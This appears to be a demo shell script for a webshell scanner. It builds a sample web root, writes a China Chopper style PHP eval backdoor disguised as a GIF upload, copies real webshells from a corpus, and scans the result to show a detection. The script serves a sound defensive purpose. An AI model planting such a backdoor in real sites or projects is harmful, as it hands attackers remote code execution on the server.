#!/usr/bin/env bash
# `make run`: builds a small demo web root — a few harmless PHP files and
# copies of three corpus webshells — under build/ (never a served folder) and
# scans it, so a first-time user sees what a detection looks like.
# usage: scripts/demo.sh BINARY DEMO_DIR WEBSHELL_CORPUS
set -euo pipefail
bin=$1 demo=$2 corpus=$3
www="$demo/www"
rm -rf "$www"
mkdir -p "$www/wp-content/uploads/2026/11" "$www/includes"
cat > "$www/index.php" <<'PHP'
<?php
require __DIR__ . '/includes/page.php';
render_page($_GET['page'] ?? 'home');
PHP
cat > "$www/includes/page.php" <<'PHP'
<?php
function render_page(string $name): void {
    $allowed = ['home', 'about'];
    $name = in_array($name, $allowed, true) ? $name : 'home';
    echo htmlspecialchars("Welcome to the $name page");
}
PHP
printf 'GIF89a\x01\x00\x01\x00\x00\x00\x00;' > "$www/wp-content/uploads/2026/11/pixel.gif"
# A China Chopper style one-liner hidden in an image, as dropped through an upload form.
printf 'GIF89a\n<?php @eval($_POST["x"]); ?>\n' > "$www/wp-content/uploads/2026/11/avatar.gif"
if [ -d "$corpus" ]; then
  n=0
  for f in "$corpus"/JohnTroony+php-webshells/*wso2*.php "$corpus"/tennc+webshell/*c99*.php "$corpus"/threedr3am+JSP-WebShells/*.jsp; do
    [ -f "$f" ] || continue
    cp "$f" "$www/wp-content/uploads/2026/11/$(basename "$f" | cut -c14-)"
    n=$((n+1)); [ $n -ge 3 ] && break
  done
fi
echo "demo web root: $www"
echo "running: $bin scan $www"
echo
set +e
"$bin" scan "$www"
status=$?
set -e
echo
case $status in
  0) echo "exit status 0: nothing flagged" ;;
  1) echo "exit status 1: files flagged (expected: the demo holds webshells)."
     echo "Try: $bin scan --json $www | head -1" ;;
  *) echo "exit status $status: an error (see above)"; exit $status ;;
esac
